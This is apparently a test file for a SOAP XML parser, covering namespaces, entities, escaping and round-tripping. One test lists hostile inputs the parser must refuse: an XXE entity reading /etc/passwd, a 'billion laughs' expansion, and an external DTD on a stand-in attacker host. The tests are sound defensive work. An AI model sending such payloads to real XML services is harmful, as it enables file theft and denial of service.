import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { escapeXml, parseXml, XmlRefused } from '../../src/soap/xml.ts'

describe('SOAP XML reading', () => {
  it('resolves namespaces of elements and attributes, inherited and redeclared', () => {
    const root = parseXml(
      '<a:root xmlns:a="urn:a" xmlns="urn:default" xmlns:x="urn:x" x:flag="1" plain="2"><child><a:inner xmlns:a="urn:other"/></child></a:root>',
    )
    assert.equal(root.namespace, 'urn:a')
    assert.equal(root.local, 'root')
    assert.deepEqual(root.attributes, { '{urn:x}flag': '1', plain: '2' })
    const child = root.children[0]!
    assert.equal(child.namespace, 'urn:default', 'an unprefixed element takes the default namespace')
    assert.equal(child.children[0]!.namespace, 'urn:other', 'the nearest declaration wins')
  })

  it('decodes the predefined entities and character references, and keeps CDATA as written', () => {
    const root = parseXml(
      '<v a="x&amp;y">&lt;b&gt; &amp;amp; &#65;&#x1F600; &quot;&apos;<![CDATA[&amp;<raw>]]></v>',
    )
    assert.equal(root.text, `<b> &amp; A\u{1F600} "'&amp;<raw>`)
    assert.equal(root.attributes.a, 'x&y')
  })

  it('separates text from child elements and trims layout whitespace', () => {
    const root = parseXml('<r>\n  <a> one </a>\n  <b/>\n</r>')
    assert.equal(root.text, '')
    assert.deepEqual(
      root.children.map((child) => [child.local, child.text]),
      [
        ['a', 'one'],
        ['b', ''],
      ],
    )
  })

  const refused = (text: string, pattern: RegExp) =>
    assert.throws(
      () => parseXml(text),
      (error: unknown) => error instanceof XmlRefused && pattern.test(error.message),
    )

  it('refuses any DOCTYPE or ENTITY declaration: external entities (XXE) and entity expansion', () => {
    refused('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', /DOCTYPE and ENTITY/)
    refused(
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><r>&lol2;</r>',
      /DOCTYPE and ENTITY/,
    )
    refused('<!doctype r SYSTEM "http://attacker.example/r.dtd"><r/>', /DOCTYPE and ENTITY/)
    refused('<r><!ENTITY x "y"></r>', /DOCTYPE and ENTITY/)
  })

  it('refuses undefined entities, bare ampersands, non-characters and undeclared prefixes', () => {
    refused('<r>&nbsp;</r>', /Undefined entity &nbsp;/)
    refused('<r>a & b</r>', /bare "&"|well-formed/)
    refused('<r>&#0;</r>', /not an XML character/)
    refused('<r>&#x110000;</r>', /not an XML character/)
    refused('<p:r/>', /Undeclared namespace prefix "p"/)
  })

  it('refuses documents that are not well-formed, or hold more than one root', () => {
    refused('<a><b></a>', /Not well-formed/)
    refused('<a>', /Not well-formed/)
    refused('not xml at all', /Not well-formed|exactly one root/)
    refused('<a/><b/>', /Not well-formed|exactly one root/)
  })

  it('refuses documents nested deeper than a SOAP request ever is', () => {
    const depth = 10_000
    refused(`${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`, /nested/)
    assert.equal(parseXml(`${'<a>'.repeat(20)}x${'</a>'.repeat(20)}`).local, 'a')
  })
})

describe('SOAP XML writing', () => {
  it('escapes markup in text and attributes', () => {
    assert.equal(escapeXml(`<a href="x">&'</a>`), '&lt;a href=&quot;x&quot;&gt;&amp;&#39;&lt;/a&gt;')
    assert.equal(escapeXml('plain value'), 'plain value')
  })

  it('replaces characters XML 1.0 cannot carry, so a stored value never breaks the document', () => {
    const escaped = escapeXml('bell\u0007 nul\u0000 tab\t ok \u{1F600}')
    assert.equal(escaped, 'bell\uFFFD nul\uFFFD tab\t ok \u{1F600}')
    assert.equal(parseXml(`<v>${escaped}</v>`).text, escaped)
  })

  it('round-trips any string through escape and parse', () => {
    for (const value of ['a<b>&c', '"quoted" \'single\'', ']]>', '&amp; already', 'ünïcödé ✓']) {
      assert.equal(parseXml(`<v a="${escapeXml(value)}">${escapeXml(value)}</v>`).text, value)
      assert.equal(parseXml(`<v a="${escapeXml(value)}"/>`).attributes.a, value)
    }
  })
})
